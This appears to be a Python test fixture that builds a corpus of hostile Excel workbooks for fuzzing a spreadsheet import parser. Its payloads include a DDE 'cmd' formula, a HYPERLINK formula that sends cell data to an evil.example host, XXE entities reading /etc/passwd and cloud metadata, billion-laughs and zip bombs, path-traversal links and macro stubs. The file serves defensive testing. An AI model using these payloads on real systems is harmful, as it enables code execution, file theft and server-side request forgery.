"""A corpus of hostile workbooks for the reader's ceiling tests: what an attacker would upload.

`corpus()` yields (category, label, bytes), deterministic, at least 300 files across: truncations, bit
flips, XML mutations, lying zip headers, lying declared counts and dimensions, encodings, formulas,
VBA, external links, relationship loops, entity tricks and huge extents. Every file is something the
import must refuse (or read) without a traceback, within the parsing child's memory ceiling.
"""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Iterator, Sequence

from touzi.imports.tests import hostile

REPORT_HEADER = ["项目代码", "项目名称", "报告期", "本月完成投资(万元)", "形象进度", "存在问题"]
GOOD_ROWS: list[Sequence[object]] = [["2021-450521-26-03-000001", "甲公司新材料工厂", "2023-03", 1200.5, "主体完工", ""],
             ["2021-450521-26-03-000002", "甲公司园区标准厂房", "2023-03", "300", "", "用地指标未落实"]]
ROWS = [REPORT_HEADER, *GOOD_ROWS]

# Declared counts a forged shared-string table may carry: u32 and u64 edges, beyond u64, and small lies.
LYING_COUNTS = ["4294967295", "4294967296", "18446744073709551615", "18446744073709551616",
                "99999999999999999999999999", "2147483647", "1000000000", "100000000", "-1", "0x10",
                "1e9", " 4294967295 ", "00004294967295", "3", "0"]

Case = tuple[str, str, bytes]


def valid() -> bytes:
    return hostile.xlsx(ROWS)


def corpus(seed: int = 12) -> Iterator[Case]:
    rnd = random.Random(seed)
    base = valid()
    yield from _truncations(base, rnd)
    yield from _bit_flips(base, rnd)
    yield from _xml_mutations(rnd)
    yield from _lying_zip_headers(base)
    yield from _declared_counts()
    yield from _dimensions()
    yield from _encodings()
    yield from _formulas()
    yield from _vba()
    yield from _external_links()
    yield from _rels_loops()
    yield from _entities()
    yield from _extents()


def _truncations(base: bytes, rnd: random.Random) -> Iterator[Case]:
    cuts = sorted({1, 2, 4, 30, len(base) // 2, len(base) - 22, len(base) - 1,
                   *(rnd.randrange(1, len(base)) for _ in range(30))})
    for cut in cuts:
        yield "truncation", f"first {cut} of {len(base)} bytes", base[:cut]


def _bit_flips(base: bytes, rnd: random.Random) -> Iterator[Case]:
    for n in range(40):
        data = bytearray(base)
        for _ in range(1 + n % 4):
            position = rnd.randrange(len(data))
            data[position] ^= 1 << rnd.randrange(8)
        yield "bit flip", f"flip set {n}", bytes(data)


_XML_TRICKS = [
    lambda x, r: x[: r.randrange(len(x))],  # cut mid-document
    lambda x, r: x.replace("<sheetData>", "<sheetData><row r=\"1\"><c r=\"A1\"><v>", 1),  # unclosed
    lambda x, r: x.replace("<sheetData>", "<sheetData>" + "<row>" * 5000, 1),  # deep nesting
    lambda x, r: x.replace('r="A1"', 'r="A1048577"', 1),  # row beyond Excel
    lambda x, r: x.replace('r="A1"', 'r="XFE1"', 1),  # column beyond Excel
    lambda x, r: x.replace('r="A1"', 'r="A99999999999999999999"', 1),
    lambda x, r: x.replace('r="A1"', 'r=""', 1),
    lambda x, r: x.replace('r="A1"', 'r="1A"', 1),
    lambda x, r: x.replace("<c ", "<c t=\"e\" ", 3),  # error cells
    lambda x, r: x.replace("<c ", "<c t=\"n\" ", 3),  # strings claimed numeric
    lambda x, r: x.replace("<c ", "<c t=\"d\" ", 3),  # ISO dates claimed
    lambda x, r: x.replace("<c ", "<c t=\"s\" ", 3),  # shared strings that do not exist
    lambda x, r: x.replace("<c ", "<c s=\"4294967295\" ", 3),  # style index far out of range
    lambda x, r: x.replace("<v>", "<v>" + "9" * 400, 1),  # a 400-digit number
    lambda x, r: x.replace("<v>", "<v>NaN", 1),
    lambda x, r: x.replace("<v>", "<v>-inf", 1),
    lambda x, r: x.replace("<t xml:space=\"preserve\">", "<t xml:space=\"preserve\">" + "长" * 40000, 1),
    lambda x, r: x.replace("?>", "?><!-- " + "-" * 10 + " -->", 1),
    lambda x, r: x.replace("<worksheet", "<x:worksheet", 1),  # unbalanced prefixes
    lambda x, r: x + "<trailing/>",
    lambda x, r: "\ufeff" + x,
    lambda x, r: x.replace("\"", "'"),
    lambda x, r: x.replace("<", "<\x00", 2),
]


def _xml_mutations(rnd: random.Random) -> Iterator[Case]:
    members = hostile.parts(ROWS)
    for n, trick in enumerate(_XML_TRICKS):
        for name in (hostile.SHEET, "xl/workbook.xml") if n < 2 else (hostile.SHEET,):
            broken = dict(members)
            broken[name] = trick(str(members[name]), rnd)
            yield "xml", f"trick {n} on {name}", hostile.pack(broken)
    for name in ("[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels", "xl/styles.xml"):
        for n in range(3):
            broken = dict(members)
            text = str(members[name])
            broken[name] = text[: rnd.randrange(len(text))] if n == 0 else text.replace(">", ">" * (n + 1), 3)
            yield "xml", f"{name} mangled {n}", hostile.pack(broken)
        yield "xml", f"{name} missing", hostile.without(members, name)
        yield "xml", f"{name} twice", hostile.duplicated(members, name)


def _lying_zip_headers(base: bytes) -> Iterator[Case]:
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        count = len(archive.infolist())
    for entry in range(count):
        for field, value in (("size", 0), ("size", 0xFFFFFFFF), ("compressed", 0xFFFFFFFF), ("compressed", 1),
                             ("crc", 0), ("method", 14), ("flags", 0x41)):
            yield "zip header", f"entry {entry} {field}={value}", hostile.patch_central(base, entry, field, value)
    members = hostile.parts(ROWS)
    bomb = hostile.stored_bomb(64 * 1024 * 1024)
    yield "zip header", "deflate bomb declared small", hostile.with_raw_member(
        members, "xl/sharedStrings.xml", bomb, declared_size=1024)
    yield "zip header", "deflate bomb declared honestly", hostile.with_raw_member(
        members, "xl/media/zeros.bin", bomb, declared_size=64 * 1024 * 1024)
    yield "zip header", "nested zip", hostile.nested_zip(hostile.parts(ROWS), 3)
    yield "zip header", "encrypted member", hostile.encrypted_member(hostile.parts(ROWS))


def _with_sst(sst: str, rows: list[list[object]] | None = None) -> bytes:
    members = hostile.parts(rows or [REPORT_HEADER, [("s", 0), "工厂", "2023-03", 1, "", ""]])
    return hostile.pack(hostile.with_shared_strings(members, sst))


def _declared_counts() -> Iterator[Case]:
    for value in LYING_COUNTS:
        yield "declared counts", f"uniqueCount={value}", _with_sst(hostile.sst_xml(["2021-450521-26-03-000001"],
                                                                                    unique_count=value))
        yield "declared counts", f"count={value}", _with_sst(hostile.sst_xml(["2021-450521-26-03-000001"],
                                                                              count=value))
    prefixed = hostile.sst_xml(["x"], unique_count="4294967295").replace("<sst ", "<x:sst xmlns:x=\"urn:x\" ")
    yield "declared counts", "prefixed sst tag", _with_sst(prefixed.replace("</sst>", "</x:sst>"))
    spaced = hostile.sst_xml(["x"]).replace('uniqueCount="1"', "uniqueCount = '4294967295'")
    yield "declared counts", "spaced attribute", _with_sst(spaced)
    huge_si = hostile.sst_xml(["x"]).replace("<si>", "<si>" * 1, 1)
    yield "declared counts", "shared formula index", hostile.pack({
        **hostile.parts(ROWS),
        hostile.SHEET: str(hostile.parts(ROWS)[hostile.SHEET]).replace(
            "<c r=\"D2\"", "<c r=\"Z9\"><f t=\"shared\" si=\"4294967295\" ref=\"Z9:Z9\">A1</f></c><c r=\"D2\"", 1)})
    yield "declared counts", "sst with no strings", _with_sst(huge_si.replace("<si><t>x</t></si>", ""))
    for n in (10, 1000):
        yield "declared counts", f"merge cells count {n}**9", hostile.pack({
            **hostile.parts(ROWS),
            hostile.SHEET: str(hostile.parts(ROWS)[hostile.SHEET]).replace(
                "</worksheet>", f'<mergeCells count="{n ** 9}"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
                                "</worksheet>")})


def _dimensions() -> Iterator[Case]:
    for ref in ("A1:XFD1048576", "A1:ZZZZ99999999", "A1", "", "XFD1048576", "A0:B0", "A1:B2:C3", "$A$1:$F$3",
                "A-1:B5", "A1:A18446744073709551616"):
        yield "dimension", f"dimension {ref!r}", hostile.xlsx(ROWS, dimension=ref)
    for first in (1048576, 1048577, 4_000_000):
        yield "dimension", f"rows from {first}", hostile.xlsx(ROWS, first_row=first)


_ENCODINGS = ["UTF-16", "UTF-16LE", "UTF-16BE", "GBK", "GB2312", "GB18030", "Big5", "ISO-8859-1", "EBCDIC-CP-US",
              "UTF-7", "UTF-32", "nonsense-encoding"]


def _encodings() -> Iterator[Case]:
    members = hostile.parts(ROWS)
    sheet = str(members[hostile.SHEET])
    for name in _ENCODINGS:
        declared = sheet.replace('encoding="UTF-8"', f'encoding="{name}"', 1)
        yield "encoding", f"declared {name}, bytes UTF-8", hostile.pack({**members, hostile.SHEET: declared})
        try:
            raw = declared.encode(name.lower())
        except LookupError:
            continue
        except UnicodeEncodeError:
            raw = declared.encode(name.lower(), errors="replace")
        yield "encoding", f"declared and written {name}", hostile.pack({**members, hostile.SHEET: raw})
    yield "encoding", "invalid UTF-8", hostile.pack({**members, hostile.SHEET: sheet.encode().replace(
        "甲".encode(), b"\xff\xfe\xc0\x80", 1)})
    yield "encoding", "lone surrogate escape", hostile.pack({**members, hostile.SHEET: sheet.replace(
        "甲", "_xD800_", 1)})
    yield "encoding", "overlong NUL", hostile.pack({**members, hostile.SHEET: sheet.encode().replace(
        "甲".encode(), b"\xc0\x80", 1)})


_FORMULAS = ['cmd|" /C calc"!A0', 'HYPERLINK("http://evil.example/?"&A1,"点击")', 'WEBSERVICE("http://evil.example")',
             "1+1", "SUM(A1:XFD1048576)", "INDIRECT(\"A\"&2)", "A1" * 4000, "'[1]Sheet1'!A1", "DDE(\"cmd\",\"x\")",
             "=" * 100]


def _formulas() -> Iterator[Case]:
    for n, formula in enumerate(_FORMULAS):
        for cached in (None, "1200", 7):
            row = [GOOD_ROWS[0][0], "工厂", "2023-03", hostile.Formula(formula, cached), "", ""]
            rows: list[Sequence[object]] = [REPORT_HEADER, row]
            yield "formula", f"formula {n} cached {cached!r}", hostile.xlsx(rows)


def _vba() -> Iterator[Case]:
    members = hostile.parts(ROWS)
    macro_types = str(members["[Content_Types].xml"]).replace(
        "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml").replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = str(members["xl/_rels/workbook.xml.rels"]).replace("</Relationships>", (
        '<Relationship Id="rId7" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/></Relationships>'))
    ole = hostile.OLE_HEADER
    for n, blob in enumerate((ole + bytes(4096), ole + b"Attribute VB_Name = \"Module1\"\nSub Auto_Open()\n",
                              b"", bytes(range(256)) * 64)):
        yield "vba", f"vbaProject {n}", hostile.pack({**members, "[Content_Types].xml": macro_types,
                                                      "xl/_rels/workbook.xml.rels": rels, "xl/vbaProject.bin": blob})
    yield "vba", "xlsm with macrosheet", hostile.pack({**members, "xl/macrosheets/sheet1.xml": (
        f'<xm:macrosheet xmlns:xm="{hostile.MAIN}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row>'
        "</sheetData></xm:macrosheet>")})
    yield "vba", "activeX control", hostile.pack({**members, "xl/activeX/activeX1.bin": ole + bytes(512),
                                                  "xl/activeX/activeX1.xml": "<ax:ocx xmlns:ax=\"urn:ax\"/>"})


_EXTERNAL_TARGETS = ["http://evil.example/book.xlsx", "file:///etc/passwd", "\\\\evil\\share\\a.xlsx",
                     "../../../../etc/passwd", "/etc/shadow", "https://169.254.169.254/latest/meta-data/"]


def _external_links() -> Iterator[Case]:
    members = hostile.parts(ROWS)
    for target in _EXTERNAL_TARGETS:
        rels = str(members["xl/_rels/workbook.xml.rels"]).replace("</Relationships>", (
            f'<Relationship Id="rId8" Type="{hostile.REL}/externalLink" Target="externalLinks/externalLink1.xml"/>'
            "</Relationships>"))
        link_rels = (f'<Relationships xmlns="{hostile.PKG}"><Relationship Id="rId1" '
                     f'Type="{hostile.REL}/externalLinkPath" Target="{target}" TargetMode="External"/></Relationships>')
        yield "external link", f"externalLink to {target}", hostile.pack({
            **members, "xl/_rels/workbook.xml.rels": rels,
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{hostile.MAIN}"><externalBook r:id="rId1" '
                                                  f'xmlns:r="{hostile.REL}"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})
        sheet_rel = str(members["xl/_rels/workbook.xml.rels"]).replace(
            'Target="worksheets/sheet1.xml"', f'Target="{target}" TargetMode="External"')
        yield "external link", f"sheet itself at {target}", hostile.pack({
            **members, "xl/_rels/workbook.xml.rels": sheet_rel})


def _rels_loops() -> Iterator[Case]:
    members = hostile.parts(ROWS)
    rels = str(members["xl/_rels/workbook.xml.rels"])
    for target in ("workbook.xml", "../xl/workbook.xml", "_rels/workbook.xml.rels", "../_rels/.rels",
                                "worksheets/../worksheets/../workbook.xml", "", ".", "/", "worksheets/",
                                "worksheets/sheet1.xml/../../workbook.xml", "%2e%2e/workbook.xml",
                                "worksheets/sheet1.xml#frag", "worksheets/SHEET1.XML"):
        yield "rels", f"sheet target {target!r}", hostile.pack({
            **members, "xl/_rels/workbook.xml.rels": rels.replace('Target="worksheets/sheet1.xml"',
                                                                  f'Target="{target}"')})
    root = str(members["_rels/.rels"])
    for target in ("_rels/.rels", "/", "xl/", "[Content_Types].xml"):
        yield "rels", f"package points at {target!r}", hostile.pack({
            **members, "_rels/.rels": root.replace('Target="xl/workbook.xml"', f'Target="{target}"')})
    many = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId1"/>' for i in range(1, 400))
    yield "rels", "400 sheets on one part", hostile.pack({
        **members, "xl/workbook.xml": str(members["xl/workbook.xml"]).replace(
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>', many)})
    yield "rels", "sheet loops through rels", hostile.pack({
        **members, "xl/worksheets/_rels/sheet1.xml.rels": (
            f'<Relationships xmlns="{hostile.PKG}"><Relationship Id="rId1" Type="{hostile.REL}/worksheet" '
            'Target="sheet1.xml"/></Relationships>')})


def _entities() -> Iterator[Case]:
    members = hostile.parts(ROWS)
    sheet = str(members[hostile.SHEET])
    head, body = sheet.split("?>", 1)
    lol = "".join(f'<!ENTITY l{i} "{"&l" + str(i - 1) + ";" if i else "lol"}{("&l" + str(i - 1) + ";") * 9}">'
                  for i in range(1, 10))
    for n, doctype in enumerate((
            '<!DOCTYPE w [<!ENTITY l0 "lol">' + lol + "]>",
            '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE w [<!ENTITY x SYSTEM "http://169.254.169.254/">]>',
            '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
            '<!DOCTYPE w SYSTEM "http://evil.example/w.dtd">')):
        patched = head + "?>" + doctype + body.replace("甲公司新材料工厂", "&x;" if "x SYSTEM" in doctype else "&l9;", 1)
        yield "entities", f"doctype {n}", hostile.pack({**members, hostile.SHEET: patched})
        yield "entities", f"doctype {n} in sst", _with_sst(
            hostile.sst_xml(["x"]).replace("?>", "?>" + doctype, 1).replace("<t>x</t>", "<t>&l9;</t>"))


def _extents() -> Iterator[Case]:
    for ref in ("XFD1048576", "A1048576", "XFD1", "ZZ500000", "AA100000"):
        rows = [REPORT_HEADER, *GOOD_ROWS]
        members = hostile.parts(rows)
        sheet = str(members[hostile.SHEET]).replace("</sheetData>", (
            f'<row r="{ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{ref}"><v>1</v></c></row></sheetData>'))
        yield "extent", f"stray cell at {ref}", hostile.pack({**members, hostile.SHEET: sheet})
    wide = [[*REPORT_HEADER, *[f"列{i}" for i in range(300)]], *GOOD_ROWS]
    yield "extent", "300 extra columns", hostile.xlsx(wide)
    yield "extent", "stored, not deflated", hostile.pack(hostile.parts(ROWS), method=zipfile.ZIP_STORED)
